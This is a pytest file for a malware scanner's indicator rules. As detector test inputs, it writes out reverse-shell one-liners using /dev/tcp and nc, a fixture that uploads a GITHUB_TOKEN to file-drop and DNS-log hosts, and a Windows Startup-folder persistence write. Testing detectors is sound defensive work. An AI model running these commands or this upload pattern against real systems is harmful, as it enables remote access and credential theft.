"""Indicator patterns (caplet._scan._indicators) read in context: the two false positives of
the benign corpus that were indicators matching words out of their threat's context."""

from __future__ import annotations

import textwrap

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source


def danger(source: str, filename: str = "mod.py", mode: ScanMode = ScanMode.PLUGIN) -> set[str]:
    findings = scan_source(textwrap.dedent(source), filename, mode=mode)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


@pytest.mark.parametrize(
    "command",
    [
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f",
        "sh -i 2>&1 | nc 192.0.2.1 4444",
    ],
)
def test_an_interactive_shell_wired_to_the_network_is_a_reverse_shell(command: str) -> None:
    assert "CPL-THR-008" in danger(f"import os\nos.system({command!r})\n")


def test_an_interactive_shell_alone_is_not_a_reverse_shell() -> None:
    # jupyter-client's tests/signalkernel.py: a job-control child for a signal test
    source = """
    from subprocess import PIPE, Popen

    def start():
        return Popen(["bash", "-i", "-c", "sleep 30"], stderr=PIPE)
    """
    assert "CPL-THR-008" not in danger(source)


def test_the_windows_startup_folder_written_is_persistence() -> None:
    # the folder as the last piece of a path joined from a variable: spelled as Windows does
    source = """
    import os
    with open(os.path.join(os.getenv("PROGRAMS_DIR"), "{}"), "w") as fh:
        fh.write("x")
    """
    assert "CPL-THR-009" in danger(source.format("Startup"))
    assert "CPL-THR-009" not in danger(source.format("startup"))


def test_a_programs_own_startup_directory_is_not_an_autostart_location() -> None:
    # ipython's tests/test_ipapp.py: a startup file in IPYTHONDIR's profile, removed after
    source = """
    import os

    def test_startup_files(tmp_path):
        startup_dir = os.path.join(os.environ["IPYTHONDIR"], "profile_default", "startup")
        os.makedirs(startup_dir, exist_ok=True)
        startup_file = os.path.join(startup_dir, "zzz_startup.py")
        with open(startup_file, "w") as fh:
            fh.write("zzz_startup_var = 'su'\\n")
        os.unlink(startup_file)
    """
    assert "CPL-THR-009" not in danger(source, "test_ipapp.py")


# -- out-of-band, file-drop and tunnel hosts of exfil_domains.toml (branch recall14) ----------

#: A secret read and sent through a temporary file: no data flow joins the read to the
#: upload, so only the host says where the secret goes.
_UPLOAD_THROUGH_A_FILE = """\
import os, tempfile, requests
_tok = os.environ.get("GITHUB_TOKEN", "")
_fd, _path = tempfile.mkstemp(suffix=".txt")
with os.fdopen(_fd, "w") as fh:
    fh.write(_tok)
with open(_path, "rb") as fh:
    requests.post("https://{host}/api/v1/upload", files={{"file": fh}})
"""


@pytest.mark.parametrize(
    "host", ["tmpfiles.org", "k3j2.eyes.sh", "k3j2.dnslog.link", "bore.pub:41234", "dpaste.com"]
)
@pytest.mark.parametrize("mode", [ScanMode.PACKAGE, ScanMode.PLUGIN])
def test_a_secret_beside_a_drop_host_is_exfiltration(host: str, mode: ScanMode) -> None:
    assert "CPL-THR-004" in danger(_UPLOAD_THROUGH_A_FILE.format(host=host), "pkg/m.py", mode)


@pytest.mark.parametrize(
    "host", ["tmpfiles.org1.example", "noteyes.sh", "mybore.pub", "dnslog.linker.io"]
)
def test_a_longer_name_ending_with_a_drop_host_is_not_it(host: str) -> None:
    findings = scan_source(
        _UPLOAD_THROUGH_A_FILE.format(host=host), "pkg/m.py", mode=ScanMode.PACKAGE
    )
    assert not {f.rule_id for f in findings} & {"CPL-THR-004", "CPL-NET-004"}
